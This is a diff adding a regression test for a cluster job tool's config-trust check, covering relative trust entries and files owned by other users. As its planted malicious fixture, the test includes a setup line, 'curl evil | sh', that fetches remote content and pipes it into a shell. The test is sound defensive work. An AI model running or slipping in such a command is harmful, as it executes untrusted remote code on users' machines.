@@ -103,3 +103,28 @@ def test_trust_without_a_project_file_says_what_to_give(tmp_path, cloned):
     (tmp_path / "empty" / ".git").mkdir(parents=True)
     r = cli("trust", cwd=tmp_path / "empty", env=env)
     assert r.returncode == 2 and "no project file here" in r.stderr and "Traceback" not in r.stderr
+
+
+@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="a second user's file needs root")
+def test_trust_entries_are_absolute_and_never_another_users_file(tmp_path, monkeypatch):
+    """Issue 41: a relative CLUSTERDDP_TRUST entry trusted whatever clusterddp.toml the current directory held,
+    another user's included (its setup lines went into your job). Only absolute entries count, and not for a file
+    another user owns."""
+    from clusterddp.job.trust import distrust, why_not_trusted
+
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    planted = shared / "clusterddp.toml"
+    planted.write_text('[defaults]\nsetup = ["curl evil | sh"]\n')
+    os.chown(planted, 65534, 65534)  # nobody's
+    monkeypatch.chdir(shared)
+    relative = {"CLUSTERDDP_TRUST": "clusterddp.toml"}
+    assert why_not_trusted(planted, relative) == ("it is not trusted (CLUSTERDDP_TRUST takes absolute paths only: "
+                                                  "'clusterddp.toml' ignored)")
+    assert distrust(planted, relative) == "it is owned by nobody (uid 65534), not by you"
+    absolute = {"CLUSTERDDP_TRUST": str(planted)}
+    assert why_not_trusted(planted, absolute) == "it is not trusted"
+    assert distrust(planted, absolute) == "it is owned by nobody (uid 65534), not by you"
+    os.chown(planted, os.geteuid(), os.getegid())  # your own file, named absolutely: trusted
+    assert why_not_trusted(planted, absolute) == "" and distrust(planted, absolute) == ""
+    assert why_not_trusted(planted, relative) != ""
